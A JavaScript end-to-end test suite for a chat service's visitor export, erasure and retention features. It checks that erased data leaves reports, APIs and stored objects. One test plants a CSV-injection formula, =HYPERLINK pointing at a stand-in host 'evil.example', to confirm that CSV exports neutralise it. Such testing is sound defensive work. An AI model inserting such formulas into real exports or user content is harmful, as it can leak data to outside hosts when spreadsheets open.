// Data rights (issue 18, points 3 and 4) against a real `wrangler dev`: a visitor who identified
// themselves, chatted (a message that is a spreadsheet formula), reached a goal, rated the chat,
// was blocked and left an offline message is exported as JSON, then erased by an admin; after it,
// no report CSV, no console API answer and no conversation object's storage (its SQLite files in
// the local persistence, read directly) holds anything of them, while another visitor's chat is
// untouched. The formula cell is neutralised in the CSVs before erasure. A visitor whose chat is
// still open is erased too: the chat ends first (the operator's socket sees it end, the
// dispatcher frees her slot), then it is erased. Then the account's
// retention period (1 day) and the scheduled retention job, run through wrangler's scheduled
// trigger with an injected time: as of now nothing is purged, as of two days later the closed
// conversation is gone from D1 and its object.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { readdirSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { postJson, newVisitor, ProtoClient, waitUntil } from "./proto-client.mjs";
import { useEdge, consolePage, assertError, conversationSummaryWhen, transcriptWith, until, C } from "./fixtures.mjs";
import { step } from "./harness.mjs";

const SECRET = "e2e0identity0secret0for0erasure00000";
const DAY = 24 * 3_600_000;
const extraSql = `
UPDATE channels SET identity_secret = '${SECRET}' WHERE id = 'demo';
INSERT OR IGNORE INTO goals (id, account_id, name, value, url_glob, enabled, position, created_at) VALUES
  ('g_erase', 'acc_demo', 'E2E Erase goal', 7, NULL, 1, 95, 1);
`;
const { edge, browser, clients } = useEdge({
  browser: true, extraSql,
  setup: async () => {
    dana = await edge.login();
  },
});
let dana;

const post = (path, body, cookie = dana) => edge.post(path, body, cookie);
const get = (path, cookie = dana) => edge.get(path, cookie);
/** Every report's slug (`reports/src/query.rs`). */
const REPORTS = ["agent_activity", "agent_performance", "agents", "conversations", "invites", "hosts", "traffic",
  "slots", "sessions", "session_statistics", "operator_analysis", "ratings", "overview", "by_operator", "by_hour",
  "by_date", "by_channel", "working_time", "message_history", "tags", "productivity", "web_pages",
  "popular_phrases", "visitor_phrases"];

/** Every report CSV (and the console's three CSV views) of the period around now, as one text. */
async function allCsv() {
  const from = Date.now() - DAY, to = Date.now() + DAY;
  const texts = [];
  for (const slug of REPORTS) {
    const r = await get(`/api/v1/reports/${slug}.csv?from=${from}&to=${to}&tz=UTC`);
    assert.equal(r.status, 200, `${slug}: ${r.text}`);
    texts.push(r.text);
  }
  for (const view of ["invites", "traffic", "ratings"]) {
    const r = await get(`${C}/reports/${view}.csv?from=${from}&to=${to}`);
    assert.equal(r.status, 200, `${view}: ${r.text}`);
    texts.push(r.text);
  }
  return texts.join("\n");
}

/**
 * Every row of every table of every ConversationObject's SQLite in the local persistence
 * (the `.sqlite` files under `<state>/v3/do/`, in the folders named after ConversationObject), as JSON text: what the objects store.
 */
function objectStorage() {
  const root = join(edge.state, "v3", "do");
  const dirs = readdirSync(root).filter((d) => d.includes("ConversationObject"));
  assert.ok(dirs.length > 0, `no ConversationObject storage under ${root}: ${readdirSync(root)}`);
  const out = [];
  for (const dir of dirs) {
    for (const file of readdirSync(join(root, dir)).filter((f) => f.endsWith(".sqlite"))) {
      const db = new DatabaseSync(join(root, dir, file), { readOnly: true });
      try {
        const tables = db.prepare("SELECT name FROM sqlite_master WHERE type = 'table'").all();
        for (const { name } of tables) {
          if (name.startsWith("sqlite_") || name.startsWith("_cf_")) continue;
          out.push(JSON.stringify(db.prepare(`SELECT * FROM "${name.replaceAll('"', '""')}"`).all()));
        }
      } finally {
        db.close();
      }
    }
  }
  return out.join("\n");
}

/**
 * A visitor on the demo channel who writes `texts` (Dana answers unless `reply` is false), the
 * operator ends the chat.
 */
async function chat(v, texts, { reply = true } = {}) {
  const r = await postJson(edge.base, "/api/v1/conversations", {
    channel_id: "demo", visitor_id: v.visitorId, visitor_token: v.visitorToken, page_url: `${edge.base}/pricing`,
  });
  assert.equal(r.status, 200, r.text);
  const conversationId = r.json.conversation_id;
  const visitor = new ProtoClient({ base: edge.base, conversationId, role: "visitor", ...v });
  const op = new ProtoClient({ base: edge.base, conversationId, role: "operator", cookie: dana });
  clients.push(visitor, op);
  await visitor.start();
  await op.start();
  for (const t of texts) await visitor.waitForAck(visitor.send(t));
  if (reply) await op.waitForAck(op.send("Dana here, noted."));
  await transcriptWith(edge, dana, conversationId, texts.length + (reply ? 1 : 0));
  op.sendFrame({ type: "end" });
  await waitUntil([op], () => op.status === "closed", "the chat is closed");
  await conversationSummaryWhen(edge, dana, conversationId, (s) => s.status === "closed", "closed in D1");
  await visitor.close();
  await op.close();
  return conversationId;
}

test("an admin exports and erases a visitor: reports, console API and objects hold nothing of them", async () => {
  // Ann: identified, chats, reaches a goal, rates, leaves an offline message, is blocked.
  const marker = `ann-secret-${Date.now()}`;
  const formula = `=HYPERLINK("https://evil.example/${marker}","click")`;
  const hash = createHmac("sha256", SECRET).update(`u-${marker}`).digest("hex");
  const session = await postJson(edge.base, "/api/v1/widget/session", {
    channel_id: "demo", identity: { id: `u-${marker}`, hash, name: "Ann Erase", email: `${marker}@visitor.example` },
  });
  assert.equal(session.status, 200, session.text);
  const ann = { visitorId: session.json.visitor_id, visitorToken: session.json.visitor_token };
  const annChat = await chat(ann, [formula, `my order is ${marker}`]);
  const goal = await postJson(edge.base, "/api/v1/widget/goals", {
    channel_id: "demo", visitor_id: ann.visitorId, visitor_token: ann.visitorToken, conversation_id: annChat,
    goals: [{ goal_id: "g_erase", name: "ignored", value: 7, at: 1 }],
  });
  assert.equal(goal.status, 200, goal.text);
  const rated = await postJson(edge.base, `/api/v1/widget/conversations/${annChat}/survey`, {
    channel_id: "demo", visitor_id: ann.visitorId, visitor_token: ann.visitorToken,
    survey: { survey: "rated", rating: "good", comment: `thanks ${marker}` },
  });
  assert.equal(rated.status, 200, rated.text);
  const offline = await postJson(edge.base, "/api/v1/widget/offline-message", {
    channel_id: "demo", visitor_id: ann.visitorId, visitor_token: ann.visitorToken,
    name: "Ann Erase", email: `${marker}@visitor.example`, text: `call me ${marker}`, page_url: `${edge.base}/`,
  });
  assert.equal(offline.status, 201, offline.text);
  // Then blocked (a blocked visitor's offline messages are refused, issue 18).
  const blocked = await post(`${C}/conversations/${annChat}/block`, { reason: `spam ${marker}` });
  assert.equal(blocked.status, 201, blocked.text);

  // Bob, another visitor, chats too: his data stays.
  const bobMarker = `bob-keeps-${Date.now()}`;
  const bob = await newVisitor(edge.base);
  const bobChat = await chat(bob, [`hello ${bobMarker}`]);

  // Before: Ann is in the CSVs (her formula neutralised), the console and the objects.
  const before = await allCsv();
  assert.ok(before.includes(marker) && before.includes(ann.visitorId), "Ann is in the reports before erasure");
  assert.ok(before.includes(bobMarker), "Bob is in the reports");
  assert.ok(before.includes(`"'=HYPERLINK(""https://evil.example/${marker}`), "the formula is written as text");
  assert.ok(!/(^|,)"?=HYPERLINK/m.test(before), "no CSV cell begins with =");
  await until(() => objectStorage().includes(marker), "Ann's messages in her object's storage");

  // Export (admins only): everything held about Ann.
  const sam = await edge.login("sam");
  assertError(await get(`${C}/visitors/${ann.visitorId}/export`, sam), 403, "forbidden", "an operator exports");
  const exp = await get(`${C}/visitors/${ann.visitorId}/export`);
  assert.equal(exp.status, 200, exp.text);
  const e = exp.json;
  assert.equal(e.visitor_id, ann.visitorId);
  assert.equal(e.identity.user_id, `u-${marker}`);
  assert.equal(e.identity.email, `${marker}@visitor.example`);
  assert.deepEqual(e.conversations.map((c) => c.summary.id), [annChat]);
  const [conv] = e.conversations;
  assert.deepEqual(conv.messages.filter((m) => m.role === "visitor").map((m) => m.text), [formula, `my order is ${marker}`]);
  assert.ok(conv.messages.some((m) => m.role === "operator" && m.text === "Dana here, noted."));
  assert.equal(conv.summary.survey_comment, `thanks ${marker}`);
  assert.deepEqual(conv.goals.map((g) => g.goal_id), ["g_erase"]);
  assert.ok(conv.events.length > 0, "state changes exported");
  assert.deepEqual(e.offline_messages.map((m) => m.text), [`call me ${marker}`]);
  assert.deepEqual(e.blocks.map((b) => [b.conversation_id, b.reason]), [[annChat, `spam ${marker}`]]);
  assert.ok(!exp.text.includes(bobMarker), "nothing of Bob in Ann's export");

  // Erase: admins only, from the console's origin.
  assertError(await post(`${C}/visitors/${ann.visitorId}/erase`, {}, sam), 403, "forbidden", "an operator erases");
  assertError(await edge.post(`${C}/visitors/${ann.visitorId}/erase`, {}, dana, "https://evil.example"), 403,
    "bad_origin", "a foreign origin");
  const erased = await post(`${C}/visitors/${ann.visitorId}/erase`, {});
  assert.equal(erased.status, 200, erased.text);
  assert.deepEqual(erased.json, { visitor_id: ann.visitorId, conversations: 1, offline_messages: 1, identities: 1, blocks: 1 });

  // After: nothing of Ann in any CSV, console answer or object; Bob is still there.
  const after = await allCsv();
  assert.ok(!after.includes(marker), "no report CSV mentions Ann's data");
  assert.ok(!after.includes(ann.visitorId), "no report CSV names Ann's visitor id");
  assert.ok(!after.includes(annChat), "no report CSV names Ann's conversation");
  assert.ok(after.includes(bobMarker), "Bob's chat is still reported");
  const list = await get(`${C}/conversations`);
  assert.ok(!list.text.includes(ann.visitorId) && !list.text.includes(annChat), "not in the console's list");
  assert.ok(list.text.includes(bobChat), "Bob's chat is listed");
  for (const path of [`${C}/conversations/${annChat}/transcript`, `${C}/conversations/${annChat}/events`]) {
    const r = await get(path);
    assert.ok(!r.text.includes(marker), `${path}: ${r.status} ${r.text}`);
  }
  assertError(await get(`${C}/conversations/${annChat}/transcript`), 404, "unknown_conversation", "transcript");
  for (const area of ["offline-messages", "blocks"]) {
    const r = await get(`${C}/${area}`);
    assert.equal(r.status, 200, r.text);
    assert.ok(!r.text.includes(marker) && !r.text.includes(ann.visitorId), `${area}: ${r.text}`);
  }
  const again = await get(`${C}/visitors/${ann.visitorId}/export`);
  assert.equal(again.status, 200, again.text);
  assert.deepEqual([again.json.identity, again.json.conversations, again.json.offline_messages, again.json.blocks],
    [null, [], [], []]);
  const stored = objectStorage();
  assert.ok(!stored.includes(marker), "no conversation object stores Ann's messages");
  assert.ok(!stored.includes(ann.visitorId), "no conversation object names Ann");
  assert.ok(stored.includes(bobMarker), "Bob's object keeps his messages");
  // Her object answers as one that never existed: her socket is refused.
  const ws = new ProtoClient({ base: edge.base, conversationId: annChat, role: "visitor", ...ann, timeoutMs: 5_000 });
  clients.push(ws);
  await assert.rejects(ws.start(), "Ann's conversation socket no longer opens");
  await ws.close();
  // Erasing again finds nothing.
  const twice = await post(`${C}/visitors/${ann.visitorId}/erase`, {});
  assert.deepEqual(twice.json, { visitor_id: ann.visitorId, conversations: 0, offline_messages: 0, identities: 0, blocks: 0 });
});

test("a visitor whose chat is still open is erased: the chat ends first, the operator sees it end, her slot is free", async () => {
  // Dana's open chats as the dispatcher counts them.
  const ongoing = async () => {
    const r = await get(`${C}/presence`);
    assert.equal(r.status, 200, r.text);
    return r.json.presence.operators.find((o) => o.id === "op_demo").ongoing;
  };
  const before = await ongoing();
  const marker = `open-chat-${Date.now()}`;
  const v = await newVisitor(edge.base);
  const r = await postJson(edge.base, "/api/v1/conversations", {
    channel_id: "demo", visitor_id: v.visitorId, visitor_token: v.visitorToken, page_url: `${edge.base}/`,
  });
  assert.equal(r.status, 200, r.text);
  const id = r.json.conversation_id;
  const visitor = new ProtoClient({ base: edge.base, conversationId: id, role: "visitor", ...v });
  const op = new ProtoClient({ base: edge.base, conversationId: id, role: "operator", cookie: dana });
  clients.push(visitor, op);
  await visitor.start();
  await op.start();
  await visitor.waitForAck(visitor.send(`still chatting ${marker}`));
  await op.waitForAck(op.send("Dana is here."));
  await until(async () => (await ongoing()) === before + 1, "the chat takes one of Dana's slots");
  await until(() => objectStorage().includes(marker), "the message in the chat's object");
  assert.notEqual(op.status, "closed");

  // The admin erases the visitor while the chat is open: it is ended, then erased.
  const erased = await post(`${C}/visitors/${v.visitorId}/erase`, {});
  assert.equal(erased.status, 200, erased.text);
  assert.deepEqual(erased.json, { visitor_id: v.visitorId, conversations: 1, offline_messages: 0, identities: 0, blocks: 0 });
  // Dana's console saw it end (the object's `status: closed`, before its sockets closed), and the
  // visitor's widget too; the dispatcher freed her slot as a normal close does.
  await waitUntil([op], () => op.status === "closed", "Dana's socket sees the chat end");
  await waitUntil([visitor], () => visitor.status === "closed", "the visitor's socket sees the chat end");
  await until(async () => (await ongoing()) === before, "Dana's slot is free again");
  await op.close();
  await visitor.close();
  // Erased like any other: nothing in the console, the export or the objects.
  const list = await get(`${C}/conversations`);
  assert.ok(!list.text.includes(id) && !list.text.includes(v.visitorId), "not in the console's list");
  const exp = await get(`${C}/visitors/${v.visitorId}/export`);
  assert.deepEqual(exp.json.conversations, [], "nothing left to export");
  assert.ok(!objectStorage().includes(marker), "the chat's object is empty");
  // The visitor can start a new chat afterwards (no open conversation is left behind).
  const again = await postJson(edge.base, "/api/v1/conversations", {
    channel_id: "demo", visitor_id: v.visitorId, visitor_token: v.visitorToken, page_url: `${edge.base}/`,
  });
  assert.equal(again.status, 200, again.text);
  assert.notEqual(again.json.conversation_id, id, "a new conversation, not the erased one");
  const cleanup = await post(`${C}/visitors/${v.visitorId}/erase`, {});
  assert.equal(cleanup.status, 200, cleanup.text);
});

test("the retention job purges conversations older than the account's period (injected clock)", async () => {
  // The period: 365 days by default, admins change it within its bounds.
  assert.deepEqual((await get(`${C}/account/retention`)).json, { days: 365 });
  const sam = await edge.login("sam");
  assert.deepEqual((await get(`${C}/account/retention`, sam)).json, { days: 365 }, "operators read it");
  assertError(await post(`${C}/account/retention`, { days: 30 }, sam), 403, "forbidden", "an operator changes it");
  assertError(await post(`${C}/account/retention`, { days: 0 }), 400, "invalid", "0 days", "days");
  assertError(await post(`${C}/account/retention`, { days: 3651 }), 400, "invalid", "over ten years", "days");
  const set = await post(`${C}/account/retention`, { days: 1 });
  assert.equal(set.status, 200, set.text);
  assert.deepEqual(set.json, { days: 1 });

  const marker = `old-chat-${Date.now()}`;
  const v = await newVisitor(edge.base);
  const id = await chat(v, [`remember ${marker}`]);
  const listed = async () => (await get(`${C}/conversations`)).text.includes(id);
  const run = async (time) => {
    const r = await fetch(`${edge.base}/cdn-cgi/handler/scheduled?cron=${encodeURIComponent("17 * * * *")}&time=${time}`);
    assert.equal(r.status, 200, await r.text());
  };

  // As of now the chat is younger than a day: kept.
  await run(Date.now());
  assert.ok(await listed(), "a chat younger than the period stays");
  assert.ok(objectStorage().includes(marker), "its object keeps it");
  // As of two days later it is older than the period: purged from D1 and from its object.
  await run(Date.now() + 2 * DAY);
  // The same job ended the console sessions idle as of then (issue 18: expired sessions are
  // purged): the old cookies are refused, and the admin logs in again.
  assertError(await get(`${C}/conversations`), 401, "unauthenticated", "a session idle for two days");
  assertError(await get(`${C}/conversations`, sam), 401, "unauthenticated", "every idle session");
  dana = await edge.login();
  assert.ok(!(await listed()), "the old chat is purged from the console's list");
  assertError(await get(`${C}/conversations/${id}/transcript`), 404, "unknown_conversation", "its transcript");
  assert.ok(!objectStorage().includes(marker), "its object's storage is empty");
  assert.ok(!(await allCsv()).includes(marker), "no report mentions it");
  // Back to the default for the other tests of the run.
  assert.equal((await post(`${C}/account/retention`, { days: 365 })).status, 200);
});

test("in Chromium: an admin exports and erases a visitor from the chat panel and sets the retention period", async () => {
  const marker = `console-erase-${Date.now()}`;
  const v = await newVisitor(edge.base);
  const id = await chat(v, [`erase me in the console ${marker}`], { reply: false });
  const { ctx, page } = await consolePage(browser, edge);
  try {
    await step(page, "export-and-erase-from-the-chat", async () => {
      await page.getByRole("button", { name: /^All/ }).click();
      await page.getByRole("button", { name: new RegExp(`Open conversation: .*${marker}`) }).click();
      const exportLink = page.getByRole("link", { name: "Export visitor's data (JSON)" });
      assert.equal(await exportLink.getAttribute("href"), `/api/v1/console/visitors/${v.visitorId}/export`);
      const exported = await page.evaluate(async (href) => (await fetch(href)).json(), await exportLink.getAttribute("href"));
      assert.deepEqual(exported.conversations.map((c) => c.summary.id), [id], "the link serves the visitor's data");
      await page.getByRole("button", { name: "Erase visitor" }).click();
      await page.getByText("will be deleted for good").waitFor();
      await page.getByRole("button", { name: "Erase for good" }).click();
      await page.getByText("The visitor's data was erased.").waitFor();
    });
    const after = await get(`${C}/visitors/${v.visitorId}/export`);
    assert.deepEqual(after.json.conversations, [], "erased through the console");
    assert.ok(!objectStorage().includes(marker), "its object's storage is empty");

    await step(page, "retention-in-account-settings", async () => {
      await page.getByRole("button", { name: "Admin", exact: true }).click();
      await page.getByRole("tab", { name: "Account" }).click();
      const days = page.getByLabel("Keep conversations for (days)");
      await days.waitFor();
      await page.waitForFunction(() => document.querySelector("#adm-retention-days")?.value === "365");
      await days.fill("0");
      await page.getByRole("button", { name: "Save retention" }).click();
      await page.getByText("must be between 1 and 3650 days").first().waitFor();
      await days.fill("30");
      await page.getByRole("button", { name: "Save retention" }).click();
      await page.getByText("Retention saved.").waitFor();
    });
    assert.deepEqual((await get(`${C}/account/retention`)).json, { days: 30 });
  } finally {
    await ctx.close();
    await post(`${C}/account/retention`, { days: 365 });
  }
});
